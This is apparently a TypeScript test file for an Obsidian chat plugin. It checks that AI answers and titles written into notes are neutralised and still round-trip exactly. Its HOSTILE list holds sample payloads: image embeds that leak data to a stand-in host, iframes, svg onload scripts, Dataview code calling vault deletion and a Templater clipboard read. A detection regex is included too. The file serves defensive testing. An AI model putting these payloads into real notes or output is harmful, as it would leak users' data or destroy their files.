import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type ChatDocument, NO_CONTEXT } from './chat-document.ts'
import { activeText, inertText } from './inert-text.ts'
import { parseChatFile } from './parse-chat-file.ts'
import { printChatFile } from './print-chat-file.ts'
import { readYaml } from '../note/read-yaml.ts'
import { anyText } from './testing/any-chat.ts'

const RUNS = process.env['VARVE_TEST_SHARE'] === 'full' ? 20_000 : 500

/** What Obsidian or one of its plugins would load or run, outside of fenced code. */
const LIVE =
  /(?<!\\)(?:\\\\)*(?:<(?:[A-Za-z/?]|!(?!\[|\\))|!\[(?!\[[^[\]\n]*\]\](?![([])))|<%|`[^\S\n]*\$?=|(?<!``)`[^\S\n]*\n[ \t>]*\$?=|\w.*`\n\$?=|(?:`{3}|~{3})[^\S\n]*\{?[^\S\n]*(?:dataview|dataviewjs|datacorejsx|base|js-engine|mermaid)\b/i

const HOSTILE = [
  '![x](https://evil.test/p.png?d=secret)',
  '![x][ref]\n\n[ref]: https://evil.test/p.png',
  '![[x] y](https://evil.test/p.png?d=secret)',
  '![[x]](https://evil.test/p.png?d=secret)',
  '![[x]][ref]\n\n[ref]: https://evil.test/p.png',
  '![[x]\ny](https://evil.test/p.png)',
  '<img src="https://evil.test/p.png">',
  '```mermaid\nflowchart TD\n  style A fill:url(https://evil.test/p.png)\n```',
  '```mermaid\nflowchart TD\n  A@{ img: "https://evil.test/p.png" }\n```',
  '```datacorejsx\nreturn app.vault.delete()\n```',
  '```base\nformulas:\n  x: image("https://evil.test/p.png")\n```',
  '<iframe src="https://evil.test"></iframe>',
  '\\<img src=x>',
  '\\\\<img src=x>',
  '<svg/onload=alert(1)>',
  '<![CDATA[x]]> <![x](https://evil.test/p.png)',
  'text <!-- <img src=x> -->',
  '```dataviewjs\napp.vault.delete()\n```',
  '~~~ dataviewjs\nx\n~~~',
  '`$= dv.current()`',
  '`= this.file.name`',
  '`            = this.file.name`',
  '`\u00a0= this.file.name`',
  '`\n= this.file.name`',
  '> ``\n> $= dv.current()``',
  'so ```\n= this.file.name```',
  '```            dataviewjs\nx\n```',
  '~~~\u00a0{ dataviewjs }\nx\n~~~',
  '<%* tp.system.clipboard() %>',
  '$$\n```\n$$\n<img src=x>\n```',
  '%%\n```\n%%\n<img src=x>\n```',
  '- ```\n```\n<img src=x>',
  '```\n<img src=x>',
]

describe('model output in a note', () => {
  test.each(HOSTILE)('%j neither loads nor runs, and round-trips exactly', (text) => {
    for (const firstLine of ['whole', 'behind'] as const) {
      const inert = inertText(text, firstLine)
      expect(inert).not.toMatch(LIVE)
      expect(activeText(inert, firstLine)).toBe(text)
    }
  })

  test('any text round-trips, even if inert already', () => {
    fc.assert(
      fc.property(
        anyText,
        fc.constantFrom('whole', 'behind'),
        fc.integer({ min: 1, max: 3 }),
        (text, at, times) => {
          let inert = text
          for (let time = 0; time < times; time += 1) inert = inertText(inert, at)
          for (let time = 0; time < times; time += 1) inert = activeText(inert, at)
          expect(inert).toBe(text)
        },
      ),
      { numRuns: RUNS },
    )
  })

  test('shows a diagram with markup as code', () => {
    const text = '```mermaid\nflowchart TD\n  A["<img src=https://evil.test/p.png>"]\n```'
    expect(inertText(text)).toBe(text.replace('```', '```\u200b'))
    expect(activeText(inertText(text))).toBe(text)
  })

  test('keeps fenced code, links and local embeds', () => {
    for (const text of [
      'Use this:\n\n```ts\nconst a: Array<string> = []\n![x](y)\n```\n\nDone.',
      'A diagram:\n\n```mermaid\nflowchart TD\n  A --> B\n```',
      'A formula:\n\n```\n=SUM(A1:A3)\n```',
      'See [[Plan]] and ![[Plan]], [docs](https://example.org) and a < b.',
    ])
      expect(inertText(text)).toBe(text)
  })

  test('a chat file holds no live text of an answer, and restores the answer; the question is the user’s own', () => {
    for (const text of HOSTILE) {
      const chat: ChatDocument = {
        id: 'c',
        title: 'Chat',
        tags: [],
        turns: [
          {
            id: 't1',
            userText: 'Question',
            context: NO_CONTEXT,
            attached: [],
            answers: [
              {
                id: 'a1',
                model: 'm',
                text,
                status: 'complete',
                chosen: true,
                sources: [{ path: '<% tp %>' }],
              },
            ],
          },
        ],
      }
      const printed = printChatFile(chat)
      expect(printed.slice(printed.indexOf('**ai**'), printed.indexOf('<!-- varve'))).not.toMatch(LIVE)
      expect(printed).not.toContain('<%')
      const { document, problems } = parseChatFile(printed)
      expect({ document, problems }).toEqual({ document: chat, problems: [] })
    }
  })

  test.each([...HOSTILE, 'Plan', 'a\\b < c', 'About \\<b>'])(
    'the title %j neither loads nor runs as a property, and round-trips',
    (title) => {
      const printed = printChatFile({ id: 'c', title, tags: [], turns: [] })
      const value = readYaml(printed.split('---\n')[1] ?? '').values['title']
      expect(value).not.toMatch(LIVE)
      expect(printed).not.toContain('<%')
      const { document } = parseChatFile(printed)
      expect(document.title).toBe(title)
      expect(printChatFile(document)).toBe(printed)
    },
  )

  test('an old title in a file is read unchanged and printed inert', () => {
    const title = '`$= dv.current()` <img src=x>'
    const old = `---\nvarve: 1\nid: c\ntitle: ${JSON.stringify(title)}\ntags: []\nmood: good\n---\n`
    const { document } = parseChatFile(old)
    expect(document.title).toBe(title)
    const printed = printChatFile(document)
    const { title: value, mood } = readYaml(printed.split('---\n')[1] ?? '').values
    expect(value).not.toMatch(LIVE)
    expect(mood).toBe('good')
    expect(parseChatFile(printed).document.title).toBe(title)
  })

  test('a file older than inert answers is read unchanged', () => {
    const old = [
      '---',
      'varve: 1',
      'id: c',
      'title: Chat',
      'tags: []',
      '---',
      '',
      '**user**: Q',
      '[Timestamp: unknown]',
      '',
    ].join('\n')
    expect(parseChatFile(`${old}**ai**: a \\<b> and <i>\n`).document.turns[0]?.answers[0]?.text).toBe(
      'a \\<b> and <i>',
    )
  })

  test('a long hostile text takes negligible time', () => {
    const long = ['\\', '`', '<', '![', '\u200b', '```\n'].map((part) => part.repeat(100_000 / part.length))
    for (const text of long) expect(activeText(inertText(text))).toBe(text)
  })
})
